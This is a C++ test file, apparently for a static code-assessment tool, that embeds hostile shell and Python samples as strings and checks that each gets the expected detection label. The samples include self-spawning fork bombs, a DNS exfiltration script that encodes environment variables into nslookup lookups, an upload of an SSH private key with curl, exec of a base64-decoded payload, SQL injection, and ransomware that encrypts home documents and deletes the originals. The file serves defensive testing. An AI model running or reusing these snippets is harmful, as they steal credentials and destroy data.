@@ -1,0 +1,240 @@
+// The classes the thirty-eighth session modelled from the tune parts of the
+// two-hundred-and-twenty-sixth round onwards (tests/corpus/prog230_MANIFEST.tsv
+// and later). Strings here are never executed.
+
+#include "test_util.hpp"
+
+namespace mai::assess::test {
+namespace {
+
+// "${BASH_SOURCE[0]}" is the script itself, as $0 is: a worker that starts
+// copies of its own file in the background, every copy doing the same, is a
+// fork bomb. The same script starting one copy from the supervisor only,
+// not from each worker, is bounded.
+TEST(TwoHundredAndTwentySixthRoundClasses, BashSourceIsTheScriptItself) {
+  check_with_twin({"every worker starts FANOUT copies of ${BASH_SOURCE[0]} in the background", B, R"sh(
+FANOUT="${FANOUT:-2}"
+standby() {
+  local self="${BASH_SOURCE[0]}" i
+  for (( i = 0; i < FANOUT; i++ )); do
+    "$self" --worker &
+  done
+}
+if [[ "${1:-}" == "--worker" ]]; then
+  standby
+  while true; do sleep 60; done
+else
+  standby
+fi
+)sh", "FORK-BOMB", SH},
+                  "if [[ \"${1:-}\" == \"--worker\" ]]; then\n  standby\n", "if [[ \"${1:-}\" == \"--worker\" ]]; then\n  :\n",
+                  "only the supervisor starts workers", L);
+  check({"$BASH_SOURCE without an index", B, "while true; do \"$BASH_SOURCE\" & \"$BASH_SOURCE\" & wait; done\n", "FORK-BOMB", SH});
+  check({"the script's own directory for a library it sources", L,
+         "source \"$(dirname \"${BASH_SOURCE[0]}\")/lib.sh\"\necho ready\n", nullptr, SH});
+}
+
+// A script's copies judged as the copies they are (self_copies.hpp), as a
+// Python program's are: `"$0" --worker "$i" &` from a loop, where the copy
+// told --worker does its work and exits, is a bounded pool; the same loop
+// run by every copy is a fork bomb. Known tests decide a copy's way:
+// `[ "$1" = --worker ]`, `[[ -n ${1:-} ]]`, a case on "$1".
+TEST(TwoHundredAndTwentySixthRoundClasses, AScriptsCopiesAreJudgedAsThoseCopies) {
+  check_with_twin({"each worker copy starts the pool again", B, R"sh(
+#!/bin/bash
+if [ "$1" = "--worker" ]; then
+  echo "worker $2"
+fi
+for i in 1 2 3; do
+  "$0" --worker "$i" &
+done
+wait
+)sh", "FORK-BOMB", SH},
+                  "  echo \"worker $2\"\n", "  echo \"worker $2\"\n  exit 0\n", "the worker exits before the pool", L);
+  check({"a case on the first argument sends the copy to its work", L, R"sh(
+case "${1:-}" in
+  --worker) sleep 5; exit 0 ;;
+  *) ;;
+esac
+for n in 1 2; do bash "$0" --worker & done
+wait
+)sh", nullptr, SH});
+  check({"a copy given no arguments runs the pool again", B, R"sh(
+if [[ -n "${1:-}" ]]; then exit 0; fi
+for n in 1 2; do "$0" & done
+wait
+)sh", "FORK-BOMB", SH});
+  // Options parsed by a function (a while loop, a case, shift): the copy told
+  // --worker takes the worker's way, which starts the standby copies again.
+  check_with_twin({"every worker brings up its own standby workers", B, R"sh(
+ROLE="supervisor"
+FANOUT=2
+parse_args() {
+  while [[ $# -gt 0 ]]; do
+    case "$1" in
+      --worker) ROLE="worker"; shift ;;
+      --fanout) FANOUT="$2"; shift 2 ;;
+      *) echo "unknown argument: $1" >&2; exit 64 ;;
+    esac
+  done
+}
+standby() {
+  for (( i = 0; i < FANOUT; i++ )); do
+    "$0" --worker --fanout "$FANOUT" &
+  done
+}
+main() {
+  parse_args "$@"
+  if [[ "$ROLE" == "worker" ]]; then
+    standby
+    while true; do sleep 5; done
+  else
+    standby
+  fi
+}
+main "$@"
+)sh", "FORK-BOMB", SH},
+                  "    standby\n    while true", "    :\n    while true", "only the supervisor starts workers", L);
+  // A script it writes that starts itself is that script's copy, not this one's.
+  check({"a worker script written to disk starts two copies of itself", B, R"sh(
+if [ "$1" = "--worker" ]; then exit 0; fi
+cat > ./worker.sh <<'END'
+#!/bin/bash
+"$0" & "$0" &
+wait
+END
+chmod +x ./worker.sh
+for i in 1 2; do ./worker.sh & done
+)sh", "FORK-BOMB", SH});
+}
+
+// The text written to a file is the likely one of its alternatives: a probe
+// script whose names end in a zone an option defaults to (the user may give
+// another) resolves names under that zone, whatever the zone.
+TEST(TwoHundredAndTwentySixthRoundClasses, AWrittenScriptHoldsItsLikelyText) {
+  check_with_twin({"environment hex-encoded into DNS names of a zone option, resolved by a written script", B, R"py(
+import argparse, binascii, os, subprocess
+
+class Probes:
+    def __init__(self, zone):
+        self.zone = zone
+        self.names = []
+    def add(self, env):
+        blob = binascii.hexlify("\n".join(f"{k}={v}" for k, v in env.items()).encode()).decode()
+        for i in range(0, len(blob), 60):
+            self.names.append(f"{i}.{blob[i:i + 60]}.{self.zone}")
+    def script(self):
+        lines = ["#!/bin/bash"]
+        for name in self.names:
+            lines.append(f"nslookup {name} >/dev/null 2>&1")
+        return "\n".join(lines) + "\n"
+
+def main(argv=None):
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--zone", default="t.diag.example.net")
+    args = ap.parse_args(argv)
+    p = Probes(args.zone)
+    p.add(dict(os.environ))
+    with open("probe.sh", "w") as fh:
+        fh.write(p.script())
+    subprocess.run(["bash", "probe.sh"])
+
+main()
+)py", "COVERT-CHANNEL-EXFILTRATION"},
+                  "nslookup {name} >/dev/null 2>&1", "echo {name} >> names.txt", "the names kept in a local file", M);
+}
+
+// A directory mkdtemp made is this code's: a nested shell's `cd` there is
+// followed, so `tar czf out.tgz .` archives what was copied into it (SSH
+// keys), and curl uploads them.
+TEST(TwoHundredAndTwentySixthRoundClasses, ANestedShellFollowsCdIntoATemporaryDirectory) {
+  check_with_twin({"keys copied into a mkdtemp directory, archived from inside it and uploaded", B, R"py(
+import os, shutil, subprocess, tempfile
+root = tempfile.mkdtemp(prefix="bundle_")
+os.makedirs(os.path.join(root, "access"))
+shutil.copy2(os.path.expanduser("~/.ssh/id_rsa"), os.path.join(root, "access", "id_rsa"))
+env = dict(os.environ, BUNDLE_ROOT=root)
+subprocess.run(["bash", "-c", 'cd "$BUNDLE_ROOT" && tar czf "$BUNDLE_ROOT.tgz" . && curl -F "f=@$BUNDLE_ROOT.tgz" https://support.example.net/upload'], env=env)
+)py", "EXFILTRATION"},
+                  "\"~/.ssh/id_rsa\"", "\"./logs/app.log\"", "its own logs", M);
+}
+
+// A loop over a known list beside data known only at run time (plugins of
+// the built-in profile, or of a profile file the user names) runs for each
+// known element as itself: the built-in plugin's encoded blob is decoded
+// and executed, by a for loop or through a comprehension.
+TEST(TwoHundredAndTwentySixthRoundClasses, AKnownListBesideRunTimeDataIsWalkedElementByElement) {
+  const char* code = R"py(
+import base64, json, sys
+BUILTIN = {"plugins": [{"name": "beat", "blob": "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="}]}
+
+def load(path):
+    if not path:
+        return BUILTIN
+    with open(path) as fh:
+        return json.load(fh)
+
+profile = load(sys.argv[1] if len(sys.argv) > 1 else None)
+for entry in profile.get("plugins", []):
+    exec(base64.b64decode(entry["blob"]))
+)py";
+  check({"a for loop over the plugins", B, code, "EXEC-DECODED-PAYLOAD"});
+  const std::string comprehension =
+      replaced(code, "for entry in profile.get(\"plugins\", []):\n    exec(base64.b64decode(entry[\"blob\"]))",
+               "sources = [base64.b64decode(e[\"blob\"]) for e in profile.get(\"plugins\", [])]\nfor s in sources:\n    exec(s)");
+  check({"a list comprehension over the plugins", B, comprehension.c_str(), "EXEC-DECODED-PAYLOAD"});
+}
+
+// What curl reads through a Unix socket (`--unix-socket /var/run/docker.sock`)
+// is a local service's answer, not data from the network: container ids
+// put into a restart script the program writes and runs are the Docker
+// API's use (HIGH), not downloaded code. The same ids fetched from a URL
+// on the network are.
+TEST(TwoHundredAndTwentySixthRoundClasses, ALocalSocketsAnswerIsNotDownloaded) {
+  check_with_twin({"container ids from the Docker socket restarted by a written script", H, R"py(
+import json, subprocess
+SOCK = "/var/run/docker.sock"
+out = subprocess.run(["curl", "-s", "--unix-socket", SOCK, "http://localhost/v1.43/containers/json?all=true"],
+                     capture_output=True, text=True, check=True).stdout
+lines = ["#!/bin/bash"]
+for c in json.loads(out):
+    lines.append("curl -s -X POST --unix-socket %s http://localhost/v1.43/containers/%s/restart" % (SOCK, c["Id"]))
+with open("restart.sh", "w") as fh:
+    fh.write("\n".join(lines) + "\n")
+subprocess.run(["bash", "restart.sh"])
+)py", "CONTAINER-ESCAPE-RISK"},
+                  "\"--unix-socket\", SOCK, \"http://localhost/v1.43/containers/json?all=true\"",
+                  "\"https://fleet.example.com/containers.json\"", "commands built from a network answer", B);
+}
+
+// list() of a library object (csv.DictReader over a response's text) is
+// not an empty list: its rows are known only at run time, so the SQL built
+// from each is still built.
+TEST(TwoHundredAndTwentySixthRoundClasses, AListOfALibraryObjectIsNotEmpty) {
+  check({"rows of a downloaded CSV formatted into SQL", M, R"py(
+import csv, io, sqlite3, requests
+rows = list(csv.DictReader(io.StringIO(requests.get("https://portal.example.com/orders.csv", timeout=30).text)))
+conn = sqlite3.connect("orders.db")
+for r in rows:
+    conn.execute(f"INSERT INTO orders VALUES ('{r['ref']}', '{r['product']}')")
+)py", "SQL-INJECTION"});
+}
+
+// A walked file's Path(f).suffix is not known to be "": a filter on the
+// suffix keeps the files it may match (ransomware that picks documents).
+TEST(TwoHundredAndTwentySixthRoundClasses, AWalkedFilesSuffixIsNotKnown) {
+  check_with_twin({"documents under home picked by suffix, encrypted, originals removed", B, R"py(
+import os
+from pathlib import Path
+from cryptography.fernet import Fernet
+f = Fernet(Fernet.generate_key())
+for dirpath, dirnames, filenames in os.walk(Path.home()):
+    for p in [Path(dirpath) / n for n in filenames if Path(n).suffix.lower() in {".docx", ".pdf"}]:
+        p.with_suffix(p.suffix + ".locked").write_bytes(f.encrypt(p.read_bytes()))
+        p.unlink()
+)py", "RANSOMWARE-ENCRYPT-AND-DELETE"},
+                  "        p.unlink()\n", "", "the originals kept", L);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
